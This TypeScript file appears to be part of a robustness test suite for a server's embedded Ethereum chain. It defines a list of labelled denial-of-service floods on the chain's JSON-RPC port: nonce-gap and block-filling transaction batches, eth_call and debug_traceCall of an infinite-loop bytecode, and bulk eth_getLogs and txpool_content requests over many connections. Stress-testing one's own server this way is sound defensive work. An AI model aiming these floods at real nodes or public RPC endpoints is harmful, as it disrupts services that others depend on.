import { type Attack, flood, type Hostile, type HostileRequest, inTurn } from "./hostile.ts";

/** Requests of a batch. */
const BATCH = 100;

interface Call {
  readonly method: string;
  readonly params: readonly unknown[];
}

function batchOf(calls: readonly Call[]): HostileRequest {
  const batch = calls.map((one, id) => ({ jsonrpc: "2.0", id, ...one }));
  return { path: "/", body: JSON.stringify(batch) };
}

function chunks<Value>(values: readonly Value[], size: number): Value[][] {
  return Array.from({ length: Math.ceil(values.length / size) }, (_, index) =>
    values.slice(index * size, (index + 1) * size),
  );
}

function sendAll(transactions: readonly string[]): HostileRequest[] {
  return chunks(transactions, BATCH).map((some) =>
    batchOf(some.map((raw) => ({ method: "eth_sendRawTransaction", params: [raw] }))),
  );
}

function toChain(connections: number, requests: (hostile: Hostile) => readonly HostileRequest[]): Attack {
  return (hostile) => flood({ ...hostile, url: hostile.chainUrl }, connections, inTurn(requests(hostile)));
}

/** Code that runs until its gas is used: a label, and a jump to it. */
export const ENDLESS_CODE = "0x5b600056";

const endless = { data: ENDLESS_CODE, gas: "0x1c9c380" };

/** What a user of the server's machine can do at the port of the embedded chain. */
export const CHAIN_ATTACKS: readonly (readonly [string, Attack])[] = [
  // Without the first transaction of each sender, none of the others can be mined.
  [
    "chain port: transactions after a nonce gap",
    toChain(16, ({ transfers }) => sendAll(transfers.flatMap((ofSender) => ofSender.slice(1)))),
  ],
  [
    "chain port: valid transactions",
    // One of each sender in turn.
    toChain(16, ({ transfers }) =>
      sendAll((transfers[0] ?? []).flatMap((_, nonce) => transfers.flatMap((ofSender) => ofSender[nonce] ?? []))),
    ),
  ],
  ["chain port: transactions that fill blocks", toChain(8, ({ burners }) => sendAll(burners))],
  [
    "chain port: endless calls",
    toChain(64, () => [batchOf(Array.from({ length: BATCH }, () => ({ method: "eth_call", params: [endless] })))]),
  ],
  ["chain port: traces", toChain(8, () => [batchOf([{ method: "debug_traceCall", params: [endless, "latest"] }])])],
  [
    "chain port: logs and pool",
    toChain(64, () => [
      batchOf(
        Array.from({ length: BATCH }, (_, index) =>
          index % 2 === 0
            ? { method: "eth_getLogs", params: [{ fromBlock: "0x0", toBlock: "latest" }] }
            : { method: "txpool_content", params: [] },
        ),
      ),
    ]),
  ],
];
